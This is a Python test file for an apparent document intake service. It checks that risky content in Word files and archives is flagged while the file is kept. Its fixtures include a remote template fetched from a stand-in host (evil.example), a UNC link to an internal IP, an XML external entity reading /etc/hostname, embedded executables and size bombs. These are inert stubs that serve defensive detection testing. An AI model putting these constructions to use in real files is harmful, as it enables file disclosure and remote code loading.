"""Dangerous files are kept and named: macros, programs, packed-in files, remote templates, forged XML."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest

from service.office.letter import DANGEROUS, Flag, Part
from tests.doors.ole_files import ole
from tests.doors.test_envelope import with_files, zipped
from tests.letter_reading import read_letter

TYPES = ("[Content_Types].xml", b"<Types/>")
BODY = ("word/document.xml", b"<w:document/>")
RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def docx(*files: tuple[str, bytes]) -> bytes:
    return zipped(TYPES, BODY, *files)


def package(name: str) -> bytes:
    spelled = name.encode("gb18030")
    body = b"\x02\0" + spelled + b"\0C:\\x\\" + spelled + b"\0\0\0\3\0" + b"content"
    return struct.pack("<I", len(body)) + body


def read(data: bytes, name: str = "登记表.docx") -> tuple[Part, str]:
    facts = read_letter(with_files((name, data)))
    assert facts.parts[0].size == len(data), "kept as it came"
    return facts.parts[0], " ".join(facts.trouble)


REMOTE_TEMPLATE = RELATION.format(kind="attachedTemplate", target="https://evil.example/t.dotm").encode()


UTF16_TEMPLATE = REMOTE_TEMPLATE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")
SETTINGS, OBJECT = "word/_rels/settings.xml.rels", "word/embeddings/oleObject1.bin"
UNC = RELATION.format(kind="oleObject", target=r"\\10.0.0.1\s\x").encode()
ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
UTF16_ENTITY = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a []><a/>'.encode("utf-16")
DANGERS = {
    "vba": ("word/vbaProject.bin", b"x", Flag.MACRO, ""),
    "activex": ("word/activeX/activeX1.bin", b"x", Flag.MACRO, "ActiveX"),
    "template": (SETTINGS, REMOTE_TEMPLATE, Flag.EXTERNAL, "外部取模板"),
    "template in utf-16": (SETTINGS, UTF16_TEMPLATE, Flag.EXTERNAL, "evil.example"),
    "unc": ("word/_rels/d.xml.rels", UNC, Flag.EXTERNAL, "外部取内容"),
    "package": (OBJECT, ole({"\x01Ole10Native": package("附件.pdf")}), Flag.EMBEDDED, "附件.pdf"),
    "program packed": (OBJECT, ole({"\x01Ole10Native": package("a.exe")}), Flag.EXECUTABLE, "a.exe"),
    "inner macro": ("word/embeddings/a.xlsx", zipped(("xl/vbaProject.bin", b"x")), Flag.MACRO, "内嵌"),
    "inner program": (OBJECT, b"MZ" + b"\0" * 90, Flag.EXECUTABLE, "内嵌了程序"),
    "entity": ("word/a.xml", ENTITY, Flag.BOMB, "实体"),
    "entity in utf-16": ("word/a.xml", UTF16_ENTITY, Flag.BOMB, "实体"),
    "media bomb": ("word/media/a.png", b"\0" * (6 << 20), Flag.BOMB, "庞大"),
    "xml bomb": ("word/a.xml", b"<a/>" + b" " * (33 << 20), Flag.BOMB, "庞大"),
    "part twice": ("WORD/document.xml", b"<other/>", Flag.UNREADABLE, "两次"),
}


@pytest.mark.parametrize("danger", DANGERS)
def test_a_danger_in_a_word_file_is_named_and_the_file_kept(danger: str) -> None:
    name, data, flag, said = DANGERS[danger]
    part, trouble = read(docx((name, data)))
    assert flag in part.flags
    assert said in trouble
    assert flag in DANGEROUS or flag is Flag.UNREADABLE


def relation(kind: str, target: str) -> tuple[str, bytes]:
    return "word/_rels/document.xml.rels", RELATION.format(kind=kind, target=target).encode()


@pytest.mark.parametrize(
    "files",
    [
        [],
        [relation("attachedTemplate", "file:///C:\\U\\Normal.dotm")],
        [relation("attachedTemplate", "Normal.dotm")],
        [relation("hyperlink", "https://www.unit.example/")],
        [relation("image", "https://www.unit.example/a.png")],
        [("word/embeddings/Microsoft_Excel_Sheet1.xlsx", zipped(("xl/workbook.xml", b"<w/>")))],
        [(OBJECT, ole({"Equation Native": b"x"}))],
    ],
    ids=["plain", "local template", "bare template", "hyperlink", "web picture", "chart", "equation"],
)
def test_what_every_office_file_may_hold_is_no_danger(files: list[tuple[str, bytes]]) -> None:
    part, trouble = read(docx(*files))
    assert (part.flags, trouble) == ((), "")


def test_a_package_in_an_old_word_file_is_named() -> None:
    part, trouble = read(ole({"WordDocument": b"x", "\x01Ole10Native": package("a.vbs")}), "总结.docx")
    assert part.type == "application/msword"
    assert set(part.flags) == {Flag.EMBEDDED, Flag.EXECUTABLE}
    assert "a.vbs" in trouble


def test_a_program_inside_archives_is_named_by_content_and_by_name() -> None:
    inner = zipped(("说明.docx", b"MZ" + b"\0" * 80), ("b.bat", b"echo"))
    facts = read_letter(with_files(("a.zip", zipped(("b.zip", inner)))))
    assert {part.name for part in facts.parts if Flag.EXECUTABLE in part.flags} == {"说明.docx", "b.bat"}


def test_an_encrypted_archive_tells_the_names_it_holds() -> None:
    data = bytearray(zipped(("工作总结.docx", b"text"), ("setup.exe", b"text")))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(sign)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(sign, at + 4)
    part, trouble = read(bytes(data), "a.zip")
    assert set(part.flags) == {Flag.ENCRYPTED, Flag.EXECUTABLE}
    assert "有密码" in trouble and "工作总结.docx" in trouble


def test_zip_helper_makes_real_archives() -> None:
    assert zipfile.ZipFile(io.BytesIO(docx())).namelist() == [TYPES[0], BODY[0]]
